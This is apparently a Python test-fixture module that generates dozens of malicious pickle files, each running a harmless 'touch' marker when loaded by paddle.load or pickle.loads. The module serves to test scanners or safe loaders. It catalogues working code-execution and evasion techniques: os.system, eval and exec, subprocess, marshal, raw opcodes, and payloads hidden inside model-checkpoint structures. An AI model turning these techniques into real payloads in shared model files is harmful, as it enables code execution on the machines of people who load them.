"""Pickles that run code when they are loaded as paddle.load does, each in another way. They leave a mark: a file."""

from __future__ import annotations

import io
import marshal
import os
import pickle
import struct
from collections.abc import Callable
from typing import Any

import numpy as np


class Name:
    """Pickles as the name of something: `Name("os:system")`. It is not imported here."""

    def __init__(self, path: str):
        self.module, self.name = path.split(":")


class Call:
    """Pickles as a call, of a name or of what another call gave."""

    def __init__(self, function: Any, *arguments: Any):
        self.function = Name(function) if isinstance(function, str) else function
        self.arguments = arguments


class Built:
    """Pickles as an object whose state is set."""

    def __init__(self, value: Any, state: Any):
        self.value, self.state = value, state


class _Pickler(pickle._Pickler):
    def save(self, value: Any, save_persistent_id: bool = True) -> None:
        if isinstance(value, Name) and self.proto >= 4:
            self.save(value.module)
            self.save(value.name)
            self.write(pickle.STACK_GLOBAL)
        elif isinstance(value, Name):
            self.write(pickle.GLOBAL + f"{value.module}\n{value.name}\n".encode())
        elif isinstance(value, Call):
            self.save(value.function)
            self.save(value.arguments)
            self.write(pickle.REDUCE)
        elif isinstance(value, Built):
            self.save(value.value)
            self.save(value.state)
            self.write(pickle.BUILD)
        else:
            super().save(value, save_persistent_id)


def dump(value: Any, protocol: int = 4) -> bytes:
    file = io.BytesIO()
    _Pickler(file, protocol).dump(value)
    return file.getvalue()


def raw(body: bytes) -> bytes:
    """A pickle of hand-written opcodes."""
    return b"\x80\x02" + body + b"."


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def shell(mark: str) -> str:
    return f"touch {mark}"


def code(mark: str) -> str:
    return f"open({mark!r}, 'w').close()"


def system(mark: str) -> Call:
    return Call("os:system", shell(mark))


def function_of_marshalled_code(mark: str) -> Call:
    return Call(Call("types:FunctionType", Call("marshal:loads", marshal.dumps(compile(code(mark), "", "exec"))), {}))


def array(dtype: Any, data: Any, shape: Any = (1,)) -> Built:
    """An array as NumPy pickles it, of the parts given."""
    made = Call("numpy.core.multiarray:_reconstruct", Name("numpy:ndarray"), (0,), b"b")
    return Built(made, (1, shape, dtype, False, data))


FLOAT = Built(Call("numpy:dtype", "f4", False, True), (3, "<", None, None, None, -1, -1, 0))
OBJECT = Built(Call("numpy:dtype", "O8", False, True), (3, "|", None, None, None, -1, -1, 63))


def saved_by_numpy(mark: str) -> Call:
    file = io.BytesIO()
    np.lib.format.write_array_header_1_0(file, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return Call("numpy:load", Call("io:BytesIO", file.getvalue() + dump(system(mark))), None, True)


def attribute(value: Any, *names: str) -> Any:
    """getattr in getattr."""
    for name in names:
        value = Call("builtins:getattr", value, name)
    return value


def lazily(mark: str) -> bytes:
    """NEWOBJ makes map(os.system, [command]); it runs when a tuple is made of it."""
    call = b"c__builtin__\nmap\n" + b"cos\nsystem\n](" + text(shell(mark)) + b"e\x86\x81"
    return raw(b"c__builtin__\ntuple\n" + call + b"\x85R")


def with_keywords(mark: str) -> bytes:
    """NEWOBJ_EX makes functools.partial(os.system, command), which is then called."""
    return raw(b"cfunctools\npartial\ncos\nsystem\n" + text(shell(mark)) + b"\x86}\x92)R")


def part(value: Any) -> bytes:
    """The opcodes of a value, to stand among others."""
    return dump(value, 2)[2:-1]


SHUTIL_OS = Name("shutil:os")

# name → the file for a mark. Each leaves the mark when pickle.loads reads it: a test shows that too.
RUNNING: dict[str, Callable[[str], bytes]] = {
    "os.system": lambda mark: dump({"w": system(mark)}),
    "os.system, protocol 0": lambda mark: dump(system(mark), 0),
    "os.system, protocol 2": lambda mark: dump({"w": system(mark)}, 2),
    "os.system, protocol 5": lambda mark: dump({"w": system(mark)}, 5),
    "posix.system": lambda mark: dump(Call("posix:system", shell(mark))),
    "os.popen": lambda mark: dump(Call(attribute(Call("os:popen", shell(mark)), "read"))),
    "os.open": lambda mark: dump(Call("os:open", mark, os.O_CREAT)),
    "os.fdopen of os.open": lambda mark: dump(Call("os:fdopen", Call("os:open", mark, os.O_CREAT))),
    "builtins.eval": lambda mark: dump(Call("builtins:eval", code(mark))),
    "eval as Python 2 named it": lambda mark: dump(Call("__builtin__:eval", code(mark)), 2),
    "eval dressed as a DenseTensor": lambda mark: dump({"w": Call("builtins:eval", code(mark), {"data": np.ones(2)})}),
    "builtins.exec": lambda mark: dump(Call("builtins:exec", code(mark))),
    "builtins.compile": lambda mark: dump(Call("builtins:exec", Call("builtins:compile", code(mark), "", "exec"))),
    "builtins.open": lambda mark: dump(Call("builtins:open", mark, "w")),
    "builtins.__import__": lambda mark: dump(
        Call(attribute(Call("builtins:__import__", "os"), "system"), shell(mark)),
    ),
    "importlib": lambda mark: dump(Call(attribute(Call("importlib:import_module", "os"), "system"), shell(mark))),
    "a chain of getattr": lambda mark: dump(
        Call(attribute(Call(attribute(Name("shutil:copy"), "__globals__", "get"), "os"), "system"), shell(mark))
    ),
    "a dotted name": lambda mark: dump(Call("shutil:os.system", shell(mark))),
    "a dotted name under numpy": lambda mark: dump(Call("numpy.testing._private.utils:os.system", shell(mark))),
    "subprocess.Popen": lambda mark: dump(Call(attribute(Call("subprocess:Popen", ["touch", mark]), "wait"))),
    "subprocess.check_output": lambda mark: dump(Call("subprocess:check_output", ["touch", mark])),
    "functools.partial": lambda mark: dump(Call(Call("functools:partial", Name("os:system"), shell(mark)))),
    "the state of a partial": lambda mark: dump(
        Call(Built(Call("functools:partial", Name("builtins:print")), (Name("os:system"), (shell(mark),), {}, {})))
    ),
    "operator.methodcaller": lambda mark: dump(Call(Call("operator:methodcaller", "system", shell(mark)), SHUTIL_OS)),
    "operator.attrgetter": lambda mark: dump(Call(Call(Call("operator:attrgetter", "system"), SHUTIL_OS), shell(mark))),
    "pickle.loads": lambda mark: dump(Call("pickle:loads", dump(system(mark)))),
    "marshal and FunctionType": lambda mark: dump(function_of_marshalled_code(mark)),
    "numpy.load": lambda mark: dump(saved_by_numpy(mark)),
    "timeit": lambda mark: dump(Call("timeit:timeit", code(mark), "pass", Name("timeit:default_timer"), 1)),
    "cProfile.run": lambda mark: dump(Call("cProfile:run", code(mark), mark)),
    "shutil.copy": lambda mark: dump(Call("shutil:copy", __file__, mark)),
    "pathlib": lambda mark: dump(Call("pathlib:Path.touch", Call("pathlib:PosixPath", mark))),
    "deep in containers": lambda mark: dump({"w": [(1, {"v": [system(mark)]})]}),
    "inside an array of objects": lambda mark: dump({"w": array(OBJECT, [system(mark)])}),
    "as the bytes of an array": lambda mark: dump({"w": [system(mark), array(FLOAT, b"1234")]}),
    "as the type of an array": lambda mark: dump({"w": Call("numpy:dtype", Call("builtins:str", system(mark)))}),
    "in the scheduler of an optimizer": lambda mark: dump({"LR_Scheduler": {"last_lr": 0.1, "last": [system(mark)]}}),
    "as a key": lambda mark: raw(b"}" + part(system(mark)) + b"K\x01s"),
    "in the table of names": lambda mark: dump({"StructuredToParameterName@@": {"w": system(mark)}}),
    "INST": lambda mark: raw(b"(" + text(shell(mark)) + b"ios\nsystem\n"),
    "OBJ": lambda mark: raw(b"(cos\nsystem\n" + text(shell(mark)) + b"o"),
    "NEWOBJ": lazily,
    "NEWOBJ_EX": with_keywords,
    "EXT1": lambda mark: raw(b"\x82\xf0" + text(shell(mark)) + b"\x85R"),
    "through the memo": lambda mark: raw(b"cos\nsystem\nq\x07" + b"0h\x07" + text(shell(mark)) + b"\x85R"),
    "under a sound dict": lambda mark: raw(part(system(mark)) + b"0}"),
}
